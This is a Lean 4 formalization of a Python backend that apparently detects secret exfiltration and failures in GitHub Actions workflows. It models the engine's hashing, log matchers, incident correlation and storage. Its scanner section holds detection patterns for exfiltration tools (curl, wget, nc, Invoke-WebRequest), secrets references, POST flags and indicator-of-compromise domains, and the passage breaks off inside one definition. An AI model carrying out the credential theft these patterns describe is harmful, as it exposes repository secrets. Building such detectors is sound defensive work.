import Mathlib

/-!
Verification development for the Signal & Correlation Engine
(conway-github-warning backend).  Python source files are embedded as
executable Lean definitions; machine integers are modelled as `Nat`/`Int`
with explicit reductions, strings as `String`/`List Char`.
-/

set_option maxRecDepth 10000

/-! ## Basic helpers -/

/-- Python's `\s` whitespace class, restricted to ASCII (the forms that occur
in workflow texts and logs). -/
def pyIsSpace (c : Char) : Bool :=
  c = ' ' || c = '\t' || c = '\n' || c = '\r' || c = '\x0b' || c = '\x0c'

/-- Regex word character `[A-Za-z0-9_]` (ASCII). -/
def isWordChar (c : Char) : Bool :=
  ('a' ≤ c && c ≤ 'z') || ('A' ≤ c && c ≤ 'Z') || ('0' ≤ c && c ≤ '9') || c = '_'

/-- The secret-name character class `[A-Z0-9_]` of `SECRET_RE`. -/
def isSecretNameChar (c : Char) : Bool :=
  ('A' ≤ c && c ≤ 'Z') || ('0' ≤ c && c ≤ '9') || c = '_'

def isAsciiDigit (c : Char) : Bool := '0' ≤ c && c ≤ '9'

/-- ASCII lower-casing, as `str.lower` acts on the ASCII range. -/
def asciiLower (c : Char) : Char :=
  if 'A' ≤ c && c ≤ 'Z' then Char.ofNat (c.toNat + 32) else c

def lowerList (l : List Char) : List Char := l.map asciiLower

/-- Case-insensitive `List.isPrefixOf` (ASCII case folding). -/
def ciStartsWith (pat l : List Char) : Bool :=
  List.isPrefixOf (lowerList pat) (lowerList l)

/-- Python `str.strip()` (whitespace at both ends). -/
def pyStrip (l : List Char) : List Char :=
  ((l.dropWhile pyIsSpace).reverse.dropWhile pyIsSpace).reverse

/-- Python `str.splitlines()` on the line-break characters that occur in
ASCII text (`\n`, `\r`, `\r\n`, `\v`, `\f`); no trailing empty line. -/
def pySplitlinesAux : List Char → List Char → List (List Char)
  | [], acc => if acc.isEmpty then [] else [acc.reverse]
  | '\r' :: '\n' :: rest, acc => acc.reverse :: pySplitlinesAux rest []
  | '\r' :: rest, acc => acc.reverse :: pySplitlinesAux rest []
  | '\n' :: rest, acc => acc.reverse :: pySplitlinesAux rest []
  | '\x0b' :: rest, acc => acc.reverse :: pySplitlinesAux rest []
  | '\x0c' :: rest, acc => acc.reverse :: pySplitlinesAux rest []
  | c :: rest, acc => pySplitlinesAux rest (c :: acc)

def pySplitlines (l : List Char) : List (List Char) := pySplitlinesAux l []

/-- `in` test for a substring (`sub in s` in Python), on char lists. -/
def containsSub (pat l : List Char) : Bool :=
  (List.range (l.length + 1)).any (fun i => List.isPrefixOf pat (l.drop i))

/-- Association-list lookup with a default. -/
def alistGetD {κ α : Type} [DecidableEq κ] (l : List (κ × α)) (k : κ) (d : α) : α :=
  match l.find? (fun p => p.1 = k) with
  | some p => p.2
  | none => d

def alistFind {κ α : Type} [DecidableEq κ] (l : List (κ × α)) (k : κ) : Option α :=
  (l.find? (fun p => p.1 = k)).map (fun p => p.2)

/-- Association-list update (used to model Python dict assignment; a dict keeps
the key's position on overwrite and appends new keys at the end). -/
def alistSet {κ α : Type} [DecidableEq κ] (l : List (κ × α)) (k : κ) (v : α) : List (κ × α) :=
  if l.any (fun p => p.1 = k) then
    l.map (fun p => if p.1 = k then (k, v) else p)
  else
    l ++ [(k, v)]

/-! ## SHA-1 (`hashlib.sha1`), over byte lists with `Nat` arithmetic -/

def mask32 : Nat := 4294967296

def rotl32 (n x : Nat) : Nat :=
  ((x <<< n) ||| (x >>> (32 - n))) % mask32

def sha1F (i b c d : Nat) : Nat :=
  if i < 20 then (b &&& c) ||| ((b ^^^ 4294967295) &&& d)
  else if i < 40 then b ^^^ c ^^^ d
  else if i < 60 then (b &&& c) ||| (b &&& d) ||| (c &&& d)
  else b ^^^ c ^^^ d

def sha1K (i : Nat) : Nat :=
  if i < 20 then 0x5A827999
  else if i < 40 then 0x6ED9EBA1
  else if i < 60 then 0x8F1BBCDC
  else 0xCA62C1D6

/-- Big-endian bytes of a number, fixed width. -/
def natToBytesBE (width n : Nat) : List Nat :=
  (List.range width).map (fun i => (n >>> (8 * (width - 1 - i))) % 256)

/-- SHA-1 message padding. -/
def sha1Pad (msg : List Nat) : List Nat :=
  let len := msg.length
  let padZeros := (64 + 56 - ((len + 1) % 64)) % 64
  msg ++ [0x80] ++ List.replicate padZeros 0 ++ natToBytesBE 8 (len * 8)

def chunksOf64Aux : Nat → List Nat → List (List Nat)
  | 0, _ => []
  | _, [] => []
  | fuel + 1, a :: rest => ((a :: rest).take 64) :: chunksOf64Aux fuel ((a :: rest).drop 64)

def chunksOf64 (l : List Nat) : List (List Nat) := chunksOf64Aux l.length l

/-- 16 big-endian 32-bit words of a 64-byte block. -/
def sha1Words (block : List Nat) : List Nat :=
  (List.range 16).map (fun j =>
    (block.getD (4 * j) 0) * 16777216 + (block.getD (4 * j + 1) 0) * 65536 +
    (block.getD (4 * j + 2) 0) * 256 + block.getD (4 * j + 3) 0)

/-- Extend 16 words to the 80-word schedule. -/
def sha1Sched (w16 : List Nat) : List Nat :=
  (List.range 64).foldl
    (fun acc _ =>
      let n := acc.length
      let g := fun (k : Nat) => acc.getD (n - k) 0
      acc ++ [rotl32 1 ((g 3) ^^^ (g 8) ^^^ (g 14) ^^^ (g 16))])
    w16

def sha1Compress (h : Nat × Nat × Nat × Nat × Nat) (block : List Nat) :
    Nat × Nat × Nat × Nat × Nat :=
  let w := sha1Sched (sha1Words block)
  let fin := (List.range 80).foldl
    (fun st i =>
      let a := st.1
      let b := st.2.1
      let c := st.2.2.1
      let d := st.2.2.2.1
      let e := st.2.2.2.2
      let t := (rotl32 5 a + sha1F i b c d + e + sha1K i + w.getD i 0) % mask32
      (t, a, rotl32 30 b, c, d))
    h
  ((h.1 + fin.1) % mask32, (h.2.1 + fin.2.1) % mask32,
   (h.2.2.1 + fin.2.2.1) % mask32, (h.2.2.2.1 + fin.2.2.2.1) % mask32,
   (h.2.2.2.2 + fin.2.2.2.2) % mask32)

/-- SHA-1 digest (20 bytes) of a byte list. -/
def sha1Bytes (msg : List Nat) : List Nat :=
  let init : Nat × Nat × Nat × Nat × Nat :=
    (0x67452301, 0xEFCDAB89, 0x98BADCFE, 0x10325476, 0xC3D2E1F0)
  let h := (chunksOf64 (sha1Pad msg)).foldl sha1Compress init
  natToBytesBE 4 h.1 ++ natToBytesBE 4 h.2.1 ++ natToBytesBE 4 h.2.2.1 ++
    natToBytesBE 4 h.2.2.2.1 ++ natToBytesBE 4 h.2.2.2.2

/-- UTF-8 encoding of one character (`str.encode("utf-8")`). -/
def utf8Bytes (c : Char) : List Nat :=
  let n := c.toNat
  if n < 0x80 then [n]
  else if n < 0x800 then [0xC0 ||| (n >>> 6), 0x80 ||| (n &&& 63)]
  else if n < 0x10000 then
    [0xE0 ||| (n >>> 12), 0x80 ||| ((n >>> 6) &&& 63), 0x80 ||| (n &&& 63)]
  else
    [0xF0 ||| (n >>> 18), 0x80 ||| ((n >>> 12) &&& 63),
     0x80 ||| ((n >>> 6) &&& 63), 0x80 ||| (n &&& 63)]

def strBytes (s : String) : List Nat := (s.data.map utf8Bytes).flatten

def hexDigitChar (n : Nat) : Char :=
  if n < 10 then Char.ofNat (48 + n) else Char.ofNat (87 + n)

/-- `hashlib.sha1(key.encode("utf-8")).hexdigest()`. -/
def sha1Hex (key : String) : String :=
  String.mk (((sha1Bytes (strBytes key)).map
    (fun b => [hexDigitChar (b / 16), hexDigitChar (b % 16)])).flatten)

/-- `_stable_run_id` from `app/signals/workflow_exfiltration.py`:
negate the low 63 bits of the first 8 digest bytes. -/
def wx_stable_run_id (key : String) : Int :=
  let digest := sha1Bytes (strBytes key)
  let value := (digest.take 8).foldl (fun acc b => acc * 256 + b) 0
  Int.negOfNat (value % 9223372036854775808)

/-- `_stable_run_id` from `app/services/correlator.py` (same text). -/
def corr_stable_run_id (key : String) : Int :=
  let digest := sha1Bytes (strBytes key)
  let value := (digest.take 8).foldl (fun acc b => acc * 256 + b) 0
  Int.negOfNat (value % 9223372036854775808)

/-! ## String ordering (Python `sorted` on str, code-point lexicographic) -/

def charListLe : List Char → List Char → Bool
  | [], _ => true
  | _ :: _, [] => false
  | a :: as, b :: bs =>
    if a < b then true else if b < a then false else charListLe as bs

def insertSorted (s : String) : List String → List String
  | [] => [s]
  | x :: xs => if charListLe s.data x.data then s :: x :: xs
               else x :: insertSorted s xs

def sortStrings (l : List String) : List String := l.foldr insertSorted []

/-- Python `sorted(set(xs))`. -/
def sortedSet (l : List String) : List String := sortStrings l.dedup

/-! ## Signal types (`app/types/signal.py`) -/

structure RunContext where
  repo_full_name : String
  owner : String
  run_id : Int
  html_url : String
  workflow_name : String
  conclusion : String
  updated_at : String
  job_name : Option String := none
  step_name : Option String := none
deriving Repr, DecidableEq

/-- The evidence dict a plugin attaches to a match (the fields read anywhere
downstream: `matched_line`, `job_name`, `step_name`, `run_id`). -/
structure MatchEvidence where
  matched_line : Option String := none
  job_name : Option String := none
  step_name : Option String := none
  run_id : Option Int := none
deriving Repr, DecidableEq

structure SignalMatch where
  signature : String
  evidence : MatchEvidence
  confidence : Rat
deriving Repr, DecidableEq

/-! ## NPM auth-token plugin (`app/plugins/npm_auth_token_expired.py`) -/

/-- `pat₀ \s+ pat₁ \s+ …` matched at the head of `l`, case-insensitively. -/
def matchPartsAt : List (List Char) → List Char → Bool
  | [], _ => true
  | [p], l => ciStartsWith p l
  | p :: ps, l =>
    ciStartsWith p l &&
      (let r := l.drop p.length
       let sp := r.takeWhile pyIsSpace
       !sp.isEmpty && matchPartsAt ps (r.drop sp.length))

/-- `re.search` of a `\s+`-joined case-insensitive pattern. -/
def searchParts (ps : List (List Char)) (l : List Char) : Bool :=
  (List.range (l.length + 1)).any (fun i => matchPartsAt ps (l.drop i))

def containsSubCI (pat l : List Char) : Bool :=
  containsSub (lowerList pat) (lowerList l)

/-- `_EXPIRED_RE` or `_UNABLE_AUTH_RE` hits on a line. -/
def npmHighLine (l : List Char) : Bool :=
  containsSubCI ("access token expired or revoked".data) l ||
  searchParts [("npm ERR!".data), ("Unable to authenticate".data)] l

/-- `_E401_CODE_RE` or `_E401_UNAUTHORIZED_RE` hits on a line. -/
def npmLowLine (l : List Char) : Bool :=
  searchParts [("npm ERR!".data), ("code".data), ("E401".data)] l ||
  searchParts [("E401".data), ("Unauthorized".data)] l

/-- `n` ASCII digits at the head, returning the rest. -/
def matchDigits (n : Nat) (l : List Char) : Option (List Char) :=
  if (l.take n).length = n && (l.take n).all isAsciiDigit then some (l.drop n)
  else none

/-- `\d{4}-\d{2}-\d{2}` at the head. -/
def matchDate (l : List Char) : Option (List Char) :=
  match matchDigits 4 l with
  | none => none
  | some r1 =>
    match r1 with
    | '-' :: r2 =>
      match matchDigits 2 r2 with
      | none => none
      | some r3 =>
        match r3 with
        | '-' :: r4 => matchDigits 2 r4
        | _ => none
    | _ => none

/-- The timestamp group of `_TS_RE` matched at the head of `r`
(returns the rest after the group). -/
def matchTsGroup (r : List Char) : Option (List Char) :=
  match r with
  | '[' :: rest =>
    let inner := rest.takeWhile (fun c => c ≠ ']')
    if inner.isEmpty then none
    else if (rest.drop inner.length).head? = some ']' then
      some (rest.drop (inner.length + 1))
    else none
  | _ =>
    match matchDate r with
    | none => none
    | some afterDate =>
      match afterDate with
      | 'T' :: tail =>
        let run := ('T' :: tail).drop 1 |>.takeWhile (fun c => !pyIsSpace c)
        if run.isEmpty then none else some (tail.drop run.length)
      | _ =>
        let sp := afterDate.takeWhile pyIsSpace
        if sp.isEmpty then none
        else
          let r2 := afterDate.drop sp.length
          let run := r2.takeWhile (fun c => isAsciiDigit c || c = ':' || c = '.')
          if run.isEmpty then none else some (r2.drop run.length)

/-- `_TS_RE.sub("", line)`: strip one leading timestamp (the pattern is
anchored at the start of the line). -/
def stripTimestamp (l : List Char) : List Char :=
  let ws := l.takeWhile pyIsSpace
  match matchTsGroup (l.drop ws.length) with
  | none => l
  | some rest => rest.dropWhile pyIsSpace

/-- `re.sub(r"\s+", " ", line)`: collapse whitespace runs to single blanks. -/
def collapseSpacesAux : List Char → Bool → List Char
  | [], _ => []
  | c :: cs, prevSpace =>
    if pyIsSpace c then
      if prevSpace then collapseSpacesAux cs true
      else ' ' :: collapseSpacesAux cs true
    else c :: collapseSpacesAux cs false

/-- `_normalize_line` of the npm plugin. -/
def normalize_line (l : List Char) : List Char :=
  let l1 := stripTimestamp l
  let l2 := pyStrip (collapseSpacesAux l1 false)
  if l2.length > 200 then l2.take 197 ++ ['.', '.', '.'] else l2

/-- The plugin's scan loop: first non-empty line matching either tier wins. -/
def npmFirstMatch : List (List Char) → Option (List Char × Rat)
  | [] => none
  | raw :: rest =>
    let line := pyStrip raw
    if line.isEmpty then npmFirstMatch rest
    else if npmHighLine line then some (normalize_line line, (9 : Rat) / 10)
    else if npmLowLine line then some (normalize_line line, (7 : Rat) / 10)
    else npmFirstMatch rest

/-- `NpmAuthTokenExpiredPlugin.match`. -/
def npm_match (run_context : RunContext) (log_text : String) : Option SignalMatch :=
  match npmFirstMatch (pySplitlines log_text.data) with
  | none => none
  | some (line, conf) =>
    if line.isEmpty then none
    else
      some
        { signature := "npm_auth_token_expired"
          evidence :=
            { matched_line := some (String.mk line)
              job_name := run_context.job_name
              step_name := run_context.step_name
              run_id := some run_context.run_id }
          confidence := conf }

/-! ## Ecosystem correlator (`app/services/correlator.py`)

Time is modelled in whole seconds (`Int`); the injected clock `now_fn`
becomes an explicit `now` argument.  `occurred_at` is an already-parsed
optional timestamp; `_parse_time` falls back to the current time when the
value is absent or unparseable. -/

structure CorrelatorEntry where
  repo_full_name : String
  owner : String
  occurred_at : Int
  smatch : SignalMatch
  source_ids : String
deriving Repr, DecidableEq

structure CorrState where
  window : Int
  min_repos : Nat
  min_owners : Nat
  cooldown : Int
  entries : List (String × List CorrelatorEntry)
  last_emit : List (String × Int)
deriving Repr

def mkCorrelator (window_minutes min_repos min_owners cooldown_minutes : Nat) : CorrState :=
  { window := (window_minutes : Int) * 60
    min_repos := min_repos
    min_owners := min_owners
    cooldown := (cooldown_minutes : Int) * 60
    entries := []
    last_emit := [] }

structure EvidenceSample where
  repo : String
  matched_line : Option String
  run_id : Option Int
  job_name : Option String
deriving Repr, DecidableEq

/-- The ecosystem incident dict built by `_build_incident` (the fields the
spec and tests inspect). -/
structure EcoIncident where
  incident_id : String
  kind : String
  run_id : Int
  dedupe_key : String
  repo_full_name : String
  workflow_name : String
  conclusion : String
  title : String
  tags : List String
  signature : String
  confidence : Rat
  window_minutes : Int
  affected_repos_count : Nat
  unique_owners_count : Nat
  sample_repos : List String
  evidence_samples : List EvidenceSample
  source : String
deriving Repr

/-- `EcosystemCorrelator._build_incident`. -/
def corrBuildIncident (st : CorrState) (signature : String)
    (entries : List CorrelatorEntry) (source : String) (now : Int) : EcoIncident :=
  let unique_repos := sortedSet (entries.map (fun e => e.repo_full_name))
  let unique_owners := sortedSet (entries.map (fun e => e.owner))
  let sample_repos := unique_repos.take 10
  let evidence_samples := (entries.take 5).map (fun e =>
    { repo := e.repo_full_name
      matched_line := e.smatch.evidence.matched_line
      run_id := e.smatch.evidence.run_id
      job_name := e.smatch.evidence.job_name : EvidenceSample })
  let confidence := (entries.map (fun e => e.smatch.confidence)).foldl max 0
  let dedupe_key := "ecosystem:" ++ signature ++ ":" ++ toString (Int.fdiv now st.cooldown)
  { incident_id := sha1Hex dedupe_key
    kind := "ecosystem_incident"
    run_id := corr_stable_run_id dedupe_key
    dedupe_key := dedupe_key
    repo_full_name := "ecosystem"
    workflow_name := signature
    conclusion := "high"
    title := "Ecosystem incident: " ++ signature
    tags := ["ecosystem", "incident", "signature:" ++ signature,
             "repos:" ++ toString unique_repos.length,
             "owners:" ++ toString unique_owners.length,
             "source:" ++ source]
    signature := signature
    confidence := confidence
    window_minutes := Int.fdiv st.window 60
    affected_repos_count := unique_repos.length
    unique_owners_count := unique_owners.length
    sample_repos := sample_repos
    evidence_samples := evidence_samples
    source := source }

/-- `EcosystemCorrelator.ingest`. -/
def ingest (st : CorrState) (m : SignalMatch) (repo_full_name owner : String)
    (occurred_at : Option Int) (source_ids : String) (source : String) (now : Int) :
    Option EcoIncident × CorrState :=
  let ts := occurred_at.getD now
  let signature := m.signature
  let pruned := (alistGetD st.entries signature []).filter
    (fun e => decide (e.occurred_at ≥ now - st.window))
  let entries := pruned ++
    [{ repo_full_name := repo_full_name, owner := owner, occurred_at := ts,
       smatch := m, source_ids := source_ids }]
  let st1 := { st with entries := alistSet st.entries signature entries }
  let unique_repos := (entries.map (fun e => e.repo_full_name)).dedup
  let unique_owners := (entries.map (fun e => e.owner)).dedup
  if unique_repos.length < st.min_repos || unique_owners.length < st.min_owners then
    (none, st1)
  else
    match alistFind st.last_emit signature with
    | some t =>
      if now - t < st.cooldown then (none, st1)
      else
        (some (corrBuildIncident st signature entries source now),
         { st1 with last_emit := alistSet st1.last_emit signature now })
    | none =>
      (some (corrBuildIncident st signature entries source now),
       { st1 with last_emit := alistSet st1.last_emit signature now })

/-! ## Incident field derivation (`app/incident_fields.py`) -/

def derive_scope (kind : String) : String :=
  if kind = "ecosystem_incident" then "ecosystem"
  else if kind = "ghostaction_risk" || kind = "personalized_secret_exfiltration" ||
      kind = "workflow_failure" then "repo"
  else "repo"

def derive_surface (kind : String) (tags : List String) : String :=
  let tag_blob := lowerList (String.intercalate " " tags).data
  if kind = "ghostaction_risk" || kind = "personalized_secret_exfiltration" then
    "credentials"
  else if kind = "ecosystem_incident" || containsSub "npm".data tag_blob ||
      containsSub "dependency".data tag_blob then
    "dependencies"
  else if kind = "workflow_failure" then "ops"
  else "automation"

structure Actor where
  login : String
  type : String
  is_bot : Bool
deriving Repr, DecidableEq

/-- The pieces of the evidence dict `derive_actor` reads. -/
structure ActorEvidence where
  actor : Option String := none
  actor_login : Option String := none
  actor_context_type : Option String := none
deriving Repr, DecidableEq

/-- Python truthiness for an optional string (`None` and `""` are falsy). -/
def strTruthy : Option String → Option String
  | some s => if s = "" then none else some s
  | none => none

def derive_actor (evidence : ActorEvidence) : Actor :=
  let login := match strTruthy evidence.actor with
    | some s => some s
    | none => strTruthy evidence.actor_login
  let actor_type0 := (evidence.actor_context_type).map (fun t => String.mk (lowerList t.data))
  let is_bot0 := match login with
    | some s => List.isSuffixOf "[bot]".data (lowerList s.data)
    | none => false
  let is_bot := is_bot0 || actor_type0 = some "bot"
  let actor_type :=
    match actor_type0 with
    | some t => if t = "user" || t = "bot" || t = "org" then t else "unknown"
    | none => "unknown"
  { login := login.getD "unknown", type := actor_type, is_bot := is_bot }

/-! ## Incident store (`app/incidents.py` + `incidents` table of `app/db.py`)

A row of the `incidents` table; the SQLite `INSERT OR IGNORE` honours the
`incident_id` primary key, the `run_id UNIQUE` and the `dedupe_key UNIQUE`
constraints (SQL `NULL`s never collide). -/

structure IncidentInput where
  incident_id : String
  kind : String
  run_id : Int
  dedupe_key : Option String
  repo_full_name : String
  workflow_name : String
  run_number : Option Int
  status : String
  conclusion : String
  html_url : String
  created_at : String
  updated_at : String
  title : String
  tags : List String
  evidence_json : String
  ev_actor : ActorEvidence
  scope : Option String := none
  surface : Option String := none
  actor : Option Actor := none
deriving Repr, DecidableEq

structure IncidentRow where
  incident_id : String
  kind : String
  run_id : Int
  dedupe_key : Option String
  repo_full_name : String
  workflow_name : String
  run_number : Option Int
  status : String
  conclusion : String
  html_url : String
  created_at : String
  updated_at : String
  title : String
  tags : List String
  evidence_json : String
  scope : String
  surface : String
  actor : Actor
deriving Repr, DecidableEq

/-- A uniqueness conflict between the incoming incident and a stored row. -/
def rowConflict (inc : IncidentInput) (r : IncidentRow) : Bool :=
  r.incident_id = inc.incident_id || r.run_id = inc.run_id ||
    (match r.dedupe_key, inc.dedupe_key with
     | some a, some b => a = b
     | _, _ => false)

/-- The row written by `insert_incident` (derived fields filled if absent). -/
def mkIncidentRow (inc : IncidentInput) : IncidentRow :=
  { incident_id := inc.incident_id
    kind := inc.kind
    run_id := inc.run_id
    dedupe_key := inc.dedupe_key
    repo_full_name := inc.repo_full_name
    workflow_name := inc.workflow_name
    run_number := inc.run_number
    status := inc.status
    conclusion := inc.conclusion
    html_url := inc.html_url
    created_at := inc.created_at
    updated_at := inc.updated_at
    title := inc.title
    tags := inc.tags
    evidence_json := inc.evidence_json
    scope := match strTruthy inc.scope with
      | some s => s
      | none => derive_scope inc.kind
    surface := match strTruthy inc.surface with
      | some s => s
      | none => derive_surface inc.kind inc.tags
    actor := match inc.actor with
      | some a => a
      | none => derive_actor inc.ev_actor }

/-- `insert_incident`: `INSERT OR IGNORE`; returns `rowcount > 0`. -/
def insert_incident (store : List IncidentRow) (inc : IncidentInput) :
    Bool × List IncidentRow :=
  if store.any (rowConflict inc) then (false, store)
  else (true, store ++ [mkIncidentRow inc])

/-! ## Fetch budget (`FetchBudget` in `app/signals/workflow_exfiltration.py`) -/

/-- `FetchBudget.take`: `remaining` is a Python int (may go negative only by
construction, never by `take`). -/
def budgetTake (remaining : Int) : Bool × Int :=
  if remaining ≤ 0 then (false, remaining) else (true, remaining - 1)

/-- A sequence of `k` consecutive `take()` calls. -/
def takeSeq : Int → Nat → List Bool
  | _, 0 => []
  | r, k + 1 =>
    let p := budgetTake r
    p.1 :: takeSeq p.2 k

/-! ## Run-log fetcher (`app/services/run_logs.py`)

`time.time()` is an explicit `now` argument (seconds); the cache is the
`OrderedDict` as an association list whose front is the oldest entry.
The Forge client is an oracle; `none` models a raised exception.  The
second component of each result counts the Forge API calls issued. -/

structure JobEntry where
  id : Option Int
  name : Option String
deriving Repr, DecidableEq

structure JobLog where
  job_name : Option String
  log_text : String
deriving Repr, DecidableEq

structure LogsForge where
  list_jobs_for_workflow_run : Int → Option (List JobEntry)
  get_job_logs : Int → Option String

structure FetcherState where
  per_minute : Nat
  timestamps : List Int
  cache : List (Int × List JobLog)
  cache_size : Nat
deriving Repr

/-- `RunLogFetcher._allow`. -/
def fetcherAllow (st : FetcherState) (now : Int) : Bool × FetcherState :=
  let pruned := st.timestamps.dropWhile (fun t => decide (now - t > 60))
  if pruned.length ≥ st.per_minute then (false, { st with timestamps := pruned })
  else (true, { st with timestamps := pruned ++ [now] })

/-- `RunLogFetcher._cache_put`. -/
def fetcherCachePut (st : FetcherState) (run_id : Int) (logs : List JobLog) :
    FetcherState :=
  let cleaned := st.cache.filter (fun p => p.1 ≠ run_id)
  let cache := cleaned ++ [(run_id, logs)]
  let cache := if cache.length > st.cache_size then cache.drop 1 else cache
  { st with cache := cache }

/-- The per-job loop of `fetch_run_logs` (budget checks and log fetches). -/
def fetchJobsLoop (gh : LogsForge) (now : Int) :
    List JobEntry → FetcherState → Nat → List JobLog →
    List JobLog × FetcherState × Nat
  | [], st, calls, acc => (acc, st, calls)
  | job :: rest, st, calls, acc =>
    match job.id with
    | none => fetchJobsLoop gh now rest st calls acc
    | some jid =>
      if jid = 0 then fetchJobsLoop gh now rest st calls acc
      else
        let allowed := fetcherAllow st now
        if !allowed.1 then (acc, allowed.2, calls)
        else
          match gh.get_job_logs jid with
          | none => fetchJobsLoop gh now rest allowed.2 (calls + 1) acc
          | some text =>
            if text = "" then fetchJobsLoop gh now rest allowed.2 (calls + 1) acc
            else fetchJobsLoop gh now rest allowed.2 (calls + 1)
              (acc ++ [{ job_name := job.name, log_text := text }])

/-- `RunLogFetcher.fetch_run_logs`. -/
def fetch_run_logs (gh : LogsForge) (st : FetcherState) (_owner _repo : String)
    (run_id : Int) (now : Int) :
    Option (List JobLog) × FetcherState × Nat :=
  match alistFind st.cache run_id with
  | some cached => (some cached, st, 0)
  | none =>
    let allowed := fetcherAllow st now
    if !allowed.1 then (none, allowed.2, 0)
    else
      match gh.list_jobs_for_workflow_run run_id with
      | none => (none, allowed.2, 1)
      | some jobs =>
        let r := fetchJobsLoop gh now jobs allowed.2 1 []
        (some r.1, fetcherCachePut r.2.1 run_id r.1, r.2.2)

/-! ## Workflow exfiltration signals (`app/signals/workflow_exfiltration.py`)

Regular-expression scanners, translated pattern by pattern.  Scanners that
consume more than one character per step take a fuel argument instantiated
with the input length (each step consumes at least one character, so the
fuel never runs out). -/

def apostChar : Char := Char.ofNat 39

/-- `SECRET_RE = secrets\.([A-Z0-9_]+)`: `findall` (non-overlapping, left to
right; each hit returns the captured name). -/
def secretFindAux : Nat → List Char → List (List Char)
  | 0, _ => []
  | _, [] => []
  | fuel + 1, c :: cs =>
    let l := c :: cs
    if List.isPrefixOf "secrets.".data l &&
        !((l.drop 8).takeWhile isSecretNameChar).isEmpty then
      let name := (l.drop 8).takeWhile isSecretNameChar
      name :: secretFindAux fuel (l.drop (8 + name.length))
    else secretFindAux fuel cs

def secretFindAll (l : List Char) : List (List Char) := secretFindAux l.length l

/-- `SECRET_RE.search` as a Boolean. -/
def secretSearch (l : List Char) : Bool := !(secretFindAll l).isEmpty

/-- `SECRET_EXPR_RE = \$\{\{\s*secrets\.([A-Z0-9_]+)\s*\}\}` matched at the
head; returns the captured name and the length of the whole match. -/
def matchSecretExprAt (l : List Char) : Option (List Char × Nat) :=
  if List.isPrefixOf ['$', '\x7b', '\x7b'] l then
    let r1 := l.drop 3
    let sp1 := r1.takeWhile pyIsSpace
    let r2 := r1.drop sp1.length
    if List.isPrefixOf "secrets.".data r2 then
      let name := (r2.drop 8).takeWhile isSecretNameChar
      if name.isEmpty then none
      else
        let r3 := r2.drop (8 + name.length)
        let sp2 := r3.takeWhile pyIsSpace
        if List.isPrefixOf ['\x7d', '\x7d'] (r3.drop sp2.length) then
          some (name, 3 + sp1.length + 8 + name.length + sp2.length + 2)
        else none
    else none
  else none

def secretExprFindAux : Nat → List Char → List (List Char)
  | 0, _ => []
  | _, [] => []
  | fuel + 1, c :: cs =>
    match matchSecretExprAt (c :: cs) with
    | some (name, len) => name :: secretExprFindAux fuel ((c :: cs).drop len)
    | none => secretExprFindAux fuel cs

/-- `SECRET_EXPR_RE.findall`. -/
def secretExprFindAll (l : List Char) : List (List Char) :=
  secretExprFindAux l.length l

/-- The character class `[^\s)\"']` of `URL_RE`. -/
def isUrlChar (c : Char) : Bool :=
  !pyIsSpace c && c ≠ ')' && c ≠ '"' && c ≠ apostChar

/-- `URL_RE = https?://[^\s)\"']+`: `findall` of the full matches. -/
def urlFindAux : Nat → List Char → List (List Char)
  | 0, _ => []
  | _, [] => []
  | fuel + 1, c :: cs =>
    let l := c :: cs
    if List.isPrefixOf "https://".data l &&
        !((l.drop 8).takeWhile isUrlChar).isEmpty then
      let run := (l.drop 8).takeWhile isUrlChar
      (l.take (8 + run.length)) :: urlFindAux fuel (l.drop (8 + run.length))
    else if List.isPrefixOf "http://".data l &&
        !((l.drop 7).takeWhile isUrlChar).isEmpty then
      let run := (l.drop 7).takeWhile isUrlChar
      (l.take (7 + run.length)) :: urlFindAux fuel (l.drop (7 + run.length))
    else urlFindAux fuel cs

def urlFindAll (l : List Char) : List (List Char) := urlFindAux l.length l

def urlSearch (l : List Char) : Bool := !(urlFindAll l).isEmpty

/-- `urllib.parse.urlparse(u).netloc` for a `URL_RE` match (which always
starts with its scheme), lower-cased as in `_extract_domains`; `none` models
the `ValueError` on unbalanced IPv6 brackets and the empty-netloc skip. -/
def urlNetloc (url : List Char) : Option String :=
  let after :=
    if List.isPrefixOf "https://".data url then some (url.drop 8)
    else if List.isPrefixOf "http://".data url then some (url.drop 7)
    else none
  match after with
  | none => none
  | some rest =>
    let netloc := rest.takeWhile (fun c => c ≠ '/' && c ≠ '?' && c ≠ '#')
    if (netloc.contains '[' != netloc.contains ']') then none
    else if netloc.isEmpty then none
    else some (String.mk (lowerList netloc))

/-- `_external_domains`: drop the safe domains, then `sorted(set(...))`. -/
def external_domains (urls : List (List Char)) : List String :=
  let domains := urls.filterMap urlNetloc
  let kept := domains.filter (fun d =>
    !(d = "github.com" || d = "api.github.com" ||
      d = "objects.githubusercontent.com") &&
    !(List.isSuffixOf ".github.com".data d.data))
  sortedSet kept

/-- `IOC_DOMAINS` membership or the `*.plesk.page` suffix. -/
def isIocDomain (d : String) : Bool :=
  d = "bold-dhawan.45-139-104-115.plesk.page" || d = "493networking.cc" ||
    List.isSuffixOf ".plesk.page".data d.data

def iocWorkflowName : String := "Github Actions Security"

/-- A word-boundary alternation `\b(w₁|w₂|…)\b` matched at the head, given
the previous character (`none` at the start of the text). -/
def wbMatchAt (ci : Bool) (w : List Char) (prev : Option Char) (l : List Char) : Bool :=
  (if ci then ciStartsWith w l else List.isPrefixOf w l) &&
    (match prev with
     | none => true
     | some p => !isWordChar p) &&
    (match (l.drop w.length).head? with
     | none => true
     | some c => !isWordChar c)

def wbSearchAux (ci : Bool) (words : List (List Char)) :
    Option Char → List Char → Bool
  | _, [] => false
  | prev, c :: cs =>
    words.any (fun w => wbMatchAt ci w prev (c :: cs)) ||
      wbSearchAux ci words (some c) cs

def wbSearch (ci : Bool) (words : List (List Char)) (l : List Char) : Bool :=
  wbSearchAux ci words none l

/-- `EXFIL_TOOL_RE = \b(curl|wget|Invoke-WebRequest|nc)\b` (ignore-case). -/
def exfilToolSearch (l : List Char) : Bool :=
  wbSearch true ["curl".data, "wget".data, "Invoke-WebRequest".data, "nc".data] l

/-- `BASE64_RE = \bbase64\b` (ignore-case). -/
def base64Search (l : List Char) : Bool := wbSearch true ["base64".data] l

/-- `TRIGGER_RE = \b(pull_request_target|workflow_run|workflow_call)\b`
(case-sensitive). -/
def triggerSearch (l : List Char) : Bool :=
  wbSearch false ["pull_request_target".data, "workflow_run".data,
    "workflow_call".data] l

/-- `RUNNER_RE = \bself-hosted\b` (ignore-case). -/
def runnerSearch (l : List Char) : Bool := wbSearch true ["self-hosted".data] l

/-- `POST_FLAG_RE = (\-X\s*POST|\-\-data|\-d\s)` (ignore-case), matched at
the head. -/
def postFlagAt (l : List Char) : Bool :=
